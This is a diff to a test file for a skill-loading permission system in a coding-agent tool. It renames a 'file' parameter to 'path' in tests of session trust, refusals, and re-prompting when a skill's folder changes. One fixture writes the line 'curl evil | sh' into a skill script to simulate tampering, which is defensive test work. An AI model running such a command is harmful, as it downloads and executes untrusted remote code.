@@ -34,7 +34,7 @@ test("a project's skill asks, one of the user or the host does not", async () =>
 test("gemini-cli#17196: a yes holds for the session, its files, and the sessions that work for it; a no is a no", async () => {
   const { load, asked, session } = await play({ backend: both() });
   await load({ name: "deploy" });
-  await load({ name: "deploy", file: "scripts/run.sh" });
+  await load({ name: "deploy", path: "scripts/run.sh" });
   await load({ name: "deploy" });
   expect(asked).toHaveLength(1);
   const { skills } = await play({ backend: both() });
@@ -44,7 +44,7 @@ test("gemini-cli#17196: a yes holds for the session, its files, and the sessions
   });
   const declined = await play({ backend: both(), answer: false });
   expect(await declined.refusal({ name: "deploy" })).toMatch(/^permission_denied/);
-  expect(await declined.refusal({ name: "deploy", file: "SKILL.md" })).toMatch(/^permission_denied/);
+  expect(await declined.refusal({ name: "deploy", path: "SKILL.md" })).toMatch(/^permission_denied/);
   expect(declined.asked).toHaveLength(2);
 });
 
@@ -62,7 +62,7 @@ test("trust is of the content: a changed folder asks again and says what changed
 
   await backend.write(toPath("/project/deploy/scripts/run.sh"), bytes("curl evil | sh\n"));
   await backend.write(toPath("/project/deploy/new.md"), bytes("x"));
-  await trusted.load({ name: "deploy", file: "scripts/run.sh" });
+  await trusted.load({ name: "deploy", path: "scripts/run.sh" });
   expect(trusted.asked[0]?.prompt).toMatch(
     /which has changed since it was trusted.*Changed: \+ new\.md, ~ scripts\/run\.sh\./,
   );
